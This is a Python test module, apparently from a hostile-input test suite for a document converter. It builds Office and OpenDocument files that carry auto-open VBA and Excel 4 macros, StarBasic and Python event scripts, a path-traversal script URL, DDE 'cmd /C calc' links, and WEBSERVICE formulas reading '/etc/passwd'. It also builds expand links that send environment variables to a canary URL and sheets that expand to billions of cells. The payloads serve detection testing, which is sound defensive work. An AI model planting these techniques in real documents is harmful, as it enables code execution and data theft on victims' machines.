"""Cases 22 to 26: macros, event scripts, formulas that act, and sheets without end."""

from __future__ import annotations

from functools import partial

from tests.hostile.builders import odf, ole, sheetx, wordx
from tests.hostile.builders.opc import Part, Rel
from tests.hostile.model import (
    CANARY_ENV,
    CANARY_FILE_URL,
    CANARY_TEXT,
    CANARY_URL,
    MARKER_FILE,
    OK,
    PASSWD_CANARY,
    PASSWD_URL,
    Case,
    codes,
)

VBA_REL = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
VBA_TYPE = "application/vnd.ms-office.vbaProject"
MACRO = codes("macro")
MACRO_RENAMED = codes("macro type_mismatch")
SCRIPT = codes("event_script")
FORMULA = codes("active_formula")
LINK = codes("external_link")
BASIC = f"""Sub Main
    n = FreeFile
    Open "{MARKER_FILE}" For Output As #n
    Print #n, "ran"
    Close #n
End Sub
"""
LIBRARY = "http://openoffice.org/2000/library"
SCRIPT_SPACE = "http://openoffice.org/2000/script"
PYTHON = f"""def main(*args):
    open({MARKER_FILE!r}, "w").close()
"""


def docm(main_type: str) -> bytes:
    """A Word document with a macro that wants to run on opening."""
    part = Part("word/vbaProject.bin", ole.vba_project(), VBA_TYPE)
    return wordx.docx(
        rels=[Rel("rIdV", VBA_REL, "vbaProject.bin")], parts=[part], main_type=main_type
    )


def xlsm(main_type: str) -> bytes:
    """The same in a workbook."""
    part = Part("xl/vbaProject.bin", ole.vba_project(), VBA_TYPE)
    more = {sheetx.BOOK: [Rel("rIdV", VBA_REL, "vbaProject.bin")]}
    sheets = [sheetx.Sheet("First", sheetx.row(1, sheetx.cell("A1", "label")))]
    return sheetx.xlsx(sheets, "", [part], more, main_type)


def excel4() -> bytes:
    """A macro sheet of the old kind, started by a defined name."""
    names = (
        '<definedNames><definedName name="_xlnm.Auto_Open">Macro!$A$1</definedName></definedNames>'
    )
    macro = sheetx.row(1, sheetx.cell("A1", "0", 'EXEC("true")'))
    sheets = [
        sheetx.Sheet("First", sheetx.row(1, sheetx.cell("A1", "label"))),
        sheetx.Sheet("Macro", macro, "veryHidden", macro=True),
    ]
    return sheetx.xlsx(sheets, names, main_type=sheetx.XLSM)


def odt_event(event: str, href: str) -> bytes:
    """A document-wide event that calls a script."""
    return odf.Odf(before=odf.scripts(odf.listener(event, href))).build()


def odt_hover(href: str) -> bytes:
    """A link that runs a script when the pointer passes over it."""
    events = (
        f"<office:event-listeners>{odf.listener('dom:mouseover', href)}</office:event-listeners>"
    )
    body = f'<text:p><text:a xlink:type="simple" xlink:href="#x">{events}link</text:a></text:p>'
    return odf.Odf(odf.GREETING + body).build()


def odt_basic() -> bytes:
    """A Basic library inside the file, called when it opens."""
    module = (
        f'<?xml version="1.0" encoding="UTF-8"?><script:module xmlns:script="{SCRIPT_SPACE}" '
        f'script:name="Module1" script:language="StarBasic">{BASIC.replace(chr(34), "&quot;")}'
        "</script:module>"
    )
    head = f'<?xml version="1.0" encoding="UTF-8"?><library:{{}} xmlns:library="{LIBRARY}" {{}}'
    one = 'library:name="Standard" library:readonly="false" library:passwordprotected="false">'
    files = {
        "Basic/script-lc.xml": head.format("libraries", ">")
        + '<library:library library:name="Standard" library:link="false"/></library:libraries>',
        "Basic/Standard/script-lb.xml": head.format("library", one)
        + '<library:element library:name="Module1"/></library:library>',
        "Basic/Standard/Module1.xml": module,
    }
    call = "vnd.sun.star.script:Standard.Module1.Main?language=Basic&location=document"
    before = odf.scripts(odf.listener("dom:load", call))
    packed = {name: data.encode() for name, data in files.items()}
    return odf.Odf(before=before, files=packed).build()


def odt_python() -> bytes:
    """A Python script inside the file, called when it opens."""
    call = "vnd.sun.star.script:mark.py$main?language=Python&location=document"
    before = odf.scripts(odf.listener("dom:load", call))
    return odf.Odf(before=before, files={"Scripts/python/mark.py": PYTHON.encode()}).build()


def odt_expand(text: str) -> bytes:
    """Names that LibreOffice would replace by a variable, as a picture and as a section."""
    href = f"vnd.sun.star.expand:{text}"
    return odf.Odf(odf.GREETING + odf.image(href) + odf.linked_section(href)).build()


def docx_expand(text: str) -> bytes:
    """The same as a linked picture in Word format."""
    rel = Rel("rId9", "image", f"vnd.sun.star.expand:{text}", external=True)
    return wordx.docx(wordx.GREETING + wordx.picture("rId9", "link"), [rel])


def xlsx_dde() -> bytes:
    """A link to a DDE server that is a shell."""
    inner = (
        '<ddeLink ddeService="cmd" ddeTopic="/C calc"><ddeItems><ddeItem name="A0" advise="1"/>'
        "</ddeItems></ddeLink>"
    )
    return sheetx.external_link(inner, "[1]!A0")


def xlsx_external_book() -> bytes:
    """A link to another workbook, with a cached value."""
    inner = (
        '<externalBook r:id="rId1"><sheetNames><sheetName val="Other"/></sheetNames>'
        '<sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1" t="str">'
        "<v>cached value</v></cell></row></sheetData></sheetDataSet></externalBook>"
    )
    rel = Rel("rId1", "externalLinkPath", f"{CANARY_URL}/other.xlsx", external=True)
    return sheetx.external_link(inner, "[1]Other!A1", [rel])


def ods_formula(formula: str) -> bytes:
    """One formula in OpenDocument."""
    return odf.Odf(odf.sheet(odf.formula_row(formula)), "spreadsheet").build()


def ods_dde() -> bytes:
    """A DDE link in OpenDocument."""
    source = (
        '<office:dde-source office:dde-application="cmd" office:dde-topic="/C calc" '
        'office:dde-item="A0" office:automatic-update="true"/>'
    )
    table = (
        "<table:table><table:table-column/><table:table-row><table:table-cell/></table:table-row>"
    )
    link = f"<table:dde-link>{source}{table}</table:table></table:dde-link>"
    link = f"<table:dde-links>{link}</table:dde-links>"
    rows = odf.formula_row('of:=DDE("cmd";"/C calc";"A0")')
    return odf.Odf(odf.sheet(rows) + link, "spreadsheet").build()


def xlsx_far_cell() -> bytes:
    """One cell at the start and one in the last corner of the sheet."""
    rows = sheetx.row(1, sheetx.cell("A1", "first")) + sheetx.row(
        1048576, sheetx.cell("XFD1048576", "last")
    )
    return sheetx.xlsx([sheetx.Sheet("First", rows)])


def ods_far_cell() -> bytes:
    """The same by repeat counts: a few bytes that mean sixteen milliard filled cells."""
    value = 'table:number-columns-repeated="16384" office:value-type="string"'
    cell = f"<table:table-cell {value}><text:p>x</text:p></table:table-cell>"
    row = f'<table:table-row table:number-rows-repeated="1048576">{cell}</table:table-row>'
    return odf.Odf(odf.sheet(row), "spreadsheet").build()


LOGO = "vnd.sun.star.script:LibreLogo|LibreLogo.py$run?language=Python&location=share"
CLIMB = "vnd.sun.star.script:../../../../../../tmp/mark.py$main?language=Python&location=share"
EXPANSIONS = {
    "variable": f"{CANARY_URL}/${CANARY_ENV}",
    "braces": f"{CANARY_URL}/${{{CANARY_ENV}}}",
    "ini-file": f"{CANARY_URL}/${{{CANARY_FILE_URL}::{CANARY_ENV}}}",
    "environment": f"${{$ORIGIN/soffice.ini:Bootstrap:UserInstallation}}/${CANARY_ENV}",
}


def _xlsx(slug: str, formula: str, canary: str | None = None) -> Case:
    """A workbook with one formula."""
    return Case(25, slug, "a.xlsx", partial(sheetx.formula_sheet, formula), OK, FORMULA, canary)


CASES = (
    Case(22, "docm-auto-open", "a.docm", partial(docm, wordx.DOCM), OK, MACRO),
    Case(22, "docx-vba-part", "a.docx", partial(docm, wordx.DOCX), OK, MACRO_RENAMED),
    Case(22, "docm-as-docx", "a.docx", partial(docm, wordx.DOCM), OK, MACRO_RENAMED),
    Case(22, "xlsm-auto-open", "a.xlsm", partial(xlsm, sheetx.XLSM), OK, MACRO),
    Case(22, "xlsx-vba-part", "a.xlsx", partial(xlsm, sheetx.XLSX), OK, MACRO_RENAMED),
    Case(22, "xlsm-excel4", "a.xlsm", excel4, OK, MACRO),
    Case(22, "odt-basic", "a.odt", odt_basic, OK, MACRO),
    Case(23, "odt-librelogo", "a.odt", partial(odt_event, "dom:load", LOGO), OK, SCRIPT),
    Case(23, "odt-python-climb", "a.odt", partial(odt_event, "dom:load", CLIMB), OK, SCRIPT),
    Case(23, "odt-view-created", "a.odt", partial(odt_event, "office:new", LOGO), OK, SCRIPT),
    Case(23, "odt-hover", "a.odt", partial(odt_hover, LOGO), OK, SCRIPT),
    Case(23, "odt-python-inside", "a.odt", odt_python, OK, SCRIPT),
    *(
        Case(
            24,
            f"{kind}-expand-{slug}",
            f"a.{kind}",
            partial(odt_expand if kind == "odt" else docx_expand, text),
            OK,
            codes("remote_content"),
            CANARY_TEXT,
        )
        for kind in ("odt", "docx")
        for slug, text in EXPANSIONS.items()
    ),
    _xlsx("xlsx-webservice-passwd", '_xlfn.WEBSERVICE("/etc/passwd")', PASSWD_CANARY),
    _xlsx("xlsx-webservice-url", f'_xlfn.WEBSERVICE("{PASSWD_URL}")', PASSWD_CANARY),
    _xlsx("xlsx-webservice-file", f'_xlfn.WEBSERVICE("{CANARY_FILE_URL}")', CANARY_TEXT),
    _xlsx("xlsx-webservice-http", f'_xlfn.WEBSERVICE("{CANARY_URL}/"&A1)'),
    _xlsx("xlsx-cmd-pipe", "cmd|' /C calc'!A0"),
    Case(25, "xlsx-dde-link", "a.xlsx", xlsx_dde, OK, FORMULA),
    Case(25, "xlsx-external-book", "a.xlsx", xlsx_external_book, OK, LINK),
    Case(
        25,
        "ods-webservice",
        "a.ods",
        partial(ods_formula, f'of:=COM.MICROSOFT.WEBSERVICE("{CANARY_FILE_URL}")'),
        OK,
        FORMULA,
        CANARY_TEXT,
    ),
    Case(25, "ods-dde", "a.ods", ods_dde, OK, FORMULA),
    Case(
        25,
        "ods-external-sheet",
        "a.ods",
        partial(ods_formula, f"of:=['{CANARY_FILE_URL}'#$Sheet1.A1]"),
        OK,
        LINK,
        CANARY_TEXT,
    ),
    Case(
        25,
        "docx-dde-field",
        "a.docx",
        lambda: wordx.docx(wordx.field('DDEAUTO cmd "/C calc"')),
        OK,
        FORMULA,
    ),
    Case(
        26,
        "xlsx-far-cell",
        "a.xlsx",
        xlsx_far_cell,
        codes("ok time_limit"),
        codes("truncated"),
        note="LibreOffice needs most of a minute to walk the sheet unless the range is cut first",
        slow=True,
    ),
    Case(
        26,
        "ods-far-cell",
        "a.ods",
        ods_far_cell,
        codes("ok time_limit memory_limit"),
        codes("truncated"),
    ),
)
